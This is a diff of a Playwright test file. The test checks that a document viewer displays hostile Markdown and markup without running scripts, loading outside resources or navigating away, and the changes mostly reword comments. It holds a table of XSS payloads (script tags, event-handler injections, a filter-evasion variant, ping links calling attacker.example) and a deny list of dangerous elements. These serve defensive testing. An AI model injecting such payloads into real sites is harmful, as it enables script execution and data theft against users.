@@ -1,4 +1,5 @@
-// Documents that try to run, to fetch, to leave the page or to take what is typed (T11). Each must show its words and do nothing.
+// Documents that try to run scripts, load resources, navigate the page or capture input. Each must show its text and do nothing. See "What
+// is in files" in docs/operate/security.md.
 import { expect } from 'bun:test'
 import { basename } from 'node:path'
 import type { Page, Request } from 'playwright-core'
@@ -8,11 +9,11 @@ import { openTheatre, type Stage } from './harness.ts'
 
 const { test } = openTheatre()
 
-/** Whatever runs leaves this behind. */
+/** Script that leaves a mark when it runs. */
 const RUN = 'window.ran=1;top.ran=1;parent.ran=1'
 const AWAY = 'http://attacker.example'
 
-/** Markup that means harm, for everything that takes markup. `marker` is to be seen. */
+/** Harmful markup, for every format that accepts markup. `marker` must be visible. */
 const HARM: Readonly<Record<string, string>> = {
   script: `<script>${RUN}</script><SCRIPT SRC="${AWAY}/s.js"></SCRIPT><scr<script>ipt>${RUN}</script>`,
   handlers: `<img src="x" onerror="${RUN}"><b onmouseover="${RUN}" onfocus="${RUN}" tabindex="0" autofocus>b</b><details open ontoggle="${RUN}"><summary>s</summary>d</details>`,
@@ -30,7 +31,7 @@ const HARM: Readonly<Record<string, string>> = {
   pings: `<a href="https://attacker.example/" ping="${AWAY}/ping" target="_top" rel="opener">ping</a><area href="${AWAY}/area"><map name="m"><area href="${AWAY}/a2"></map>`,
 }
 
-/** What the page did besides showing the file. */
+/** Actions of the page other than showing the file. */
 interface Watch {
   readonly requests: Request[]
   readonly left: string[]
@@ -40,7 +41,7 @@ function watch(page: Page, stage: Stage, seen: Watch): void {
   const own = new URL(stage.program.url).host
   page.context().on('request', (request) => {
     const { protocol, host, pathname } = new URL(request.url())
-    // The page itself renews its session; nothing else is sent from here.
+    // The page itself renews its session; no other request is sent from here.
     const foreign = host !== own || (request.method() !== 'GET' && pathname !== '/api/renew')
     if (/^https?:$/.test(protocol) && foreign) seen.requests.push(request)
   })
@@ -52,7 +53,7 @@ function watch(page: Page, stage: Stage, seen: Watch): void {
   })
 }
 
-/** Presses everything in the document that could be pressed but leads nowhere good, then says what came of it. */
+/** Clicks everything in the document that is clickable but harmful, then returns the effects. */
 async function provoke(page: Page): Promise<unknown> {
   return page.evaluate(async () => {
     const root = document.querySelector('main')
@@ -61,7 +62,7 @@ async function provoke(page: Page): Promise<unknown> {
       if (!element.closest('a[href]')) element.click()
       if (element.closest('a[href^="#"], a[href*="script"], a[href^="data"]')) element.click()
     }
-    // Time is what is tested: what runs or loads later is caught, too.
+    // Time is what is tested: catches scripts and requests that start later, too.
     await new Promise((rested) => setTimeout(rested, 300))
     const banned =
       'script, iframe, frame, object, embed, form, input:not([type=search], [type=checkbox], [type=radio]), textarea, style, link, base, meta, template, svg script, video, audio, dialog, [style*=url], [srcset], [ping], [formaction], [contenteditable], .visually-hidden'
@@ -127,7 +128,7 @@ const rendered = async (page: Page) => {
 }
 const shown = (page: Page) => page.getByText('marker').first().waitFor()
 
-/** Each document has a marker of its own, so that none is taken for the one before. */
+/** Returns a unique marker for each document, so that none is mistaken for the one before. */
 const marker = (index: number) => `marker ${index}`
 
 test(`Markdown: ${Object.keys(HARM).join(', ')}`, async (stage) => {
